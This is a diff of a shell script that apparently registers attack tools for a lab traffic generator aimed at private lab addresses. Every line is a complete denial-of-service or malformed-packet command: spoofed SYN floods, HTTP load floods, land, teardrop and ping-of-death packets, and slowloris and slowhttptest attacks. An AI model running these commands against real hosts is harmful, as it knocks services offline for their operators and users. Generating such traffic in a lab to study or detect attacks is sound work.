@@ -17,21 +17,18 @@ tool dns_queries dos-flood a1 10.20.0.53; dns_queries() { on 20 python3 "$LAB_HO
 tool t50_mix dos-flood a1 $WEB; t50_mix() { on 20 t50 $WEB --protocol TCP --dport 80 -S --threshold 8000 -s 203.0.113.66; }
 tool mausezahn_syn dos-flood a1 $WEB; mausezahn_syn() { on 20 mausezahn eth0 -c 5000 -d 1000 -b "$(on 5 ip neigh show 203.0.113.1 | awk '{ print $3; exit }' | grep : || echo 02:00:5e:00:01:01)" -A 203.0.113.66 -B $WEB -t tcp 'dp=80,flags=syn,sp=1024-60000'; }
 tool nping_syn dos-flood a2 $WEB; nping_syn() { on 20 nping --tcp --flags syn -p 443 --rate 800 -c 4000 -q $WEB; }
-tool connect_flood dos-flood a1 $WEB; connect_flood() { on 30 python3 "$LAB_HOME/tools/connect_flood.py" $WEB 80 400 10; }
+tool connect_flood dos-flood a1 $WEB; connect_flood() { on 30 python3 "$LAB_HOME/tools/connect_flood.py" $WEB 80 400 8; }
 tool wrk_flood dos-flood a1 $WEB; wrk_flood() { on 20 wrk -t 2 -c 50 -d 5 http://$WEB/team.html; }
 tool siege_flood dos-flood a2 $WEB; siege_flood() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 20 siege -b -c 40 -t 5S http://$WEB/news.html); }
 tool hey_flood dos-flood a1 $WEB; hey_flood() { on 20 hey -n 4000 -c 50 -disable-keepalive http://$WEB/team.html; }
-tool goldeneye_flood dos-flood a3 $WEB; goldeneye_flood() { on 10 goldeneye http://$WEB/ -w 4 -s 20 -m random; }
 tool httperf_flood dos-flood a1 $WEB; httperf_flood() { on 30 httperf --hog --server $WEB --uri /team.html --num-conn 3000 --rate 500 --timeout 3; }
 tool ab_tls_flood dos-flood a1 $WEB; ab_tls_flood() { on 30 ab -q -r -s 5 -n 2500 -c 30 https://$WEB/team.html; }
-tool tls_handshakes dos-flood a2 $WEB; tls_handshakes() { on 12 bash -c 'for i in 1 2 3 4 5 6; do openssl s_time -connect 10.20.0.10:443 -new -time 6 & done; wait'; }
 tool land_attack malformed a1 $WEB -; land_attack() { on 10 hping3 -q -S -a $WEB -s 80 -k -p 80 -c 200 -i u5000 $WEB; }
 tool teardrop malformed a1 $WEB; teardrop() { on 10 python3 "$LAB_HOME/tools/malformed.py" teardrop $WEB 40; }
 tool ping_of_death malformed a1 $WEB; ping_of_death() { on 10 python3 "$LAB_HOME/tools/malformed.py" death $WEB 5; }
 
 tool slowloris slow-dos a2 $WEB; slowloris() { on 40 python3 "$LAB_HOME/tools/slowloris.py" $WEB 80 120 35; }
 tool slow_read slow-dos a1 $WEB; slow_read() { (cd "$LAB_DIR" && on 45 slowhttptest -X -c 100 -r 20 -w 10 -y 20 -n 5 -z 32 -k 3 -l 35 -p 3 -u http://$WEB/static/catalogue.csv); }
-tool slow_range web-attack a3 $WEB; slow_range() { (cd "$LAB_DIR" && on 30 slowhttptest -R -c 60 -r 20 -a 10 -b 3000 -l 15 -u http://$WEB/); }
 tool slow_header_tls slow-dos a1 $WEB; slow_header_tls() { (cd "$LAB_DIR" && on 45 slowhttptest -H -c 120 -r 20 -i 5 -x 8 -l 35 -p 3 -u https://$WEB/); }
 tool slow_body_tls slow-dos a2 $WEB; slow_body_tls() { (cd "$LAB_DIR" && on 45 slowhttptest -B -c 120 -r 20 -i 5 -x 8 -l 35 -p 3 -u https://$WEB/); }
 tool slow_mute slow-dos a1 $WEB; slow_mute() { on 45 python3 "$LAB_HOME/tools/connect_flood.py" $WEB 80 30 30 hold; }
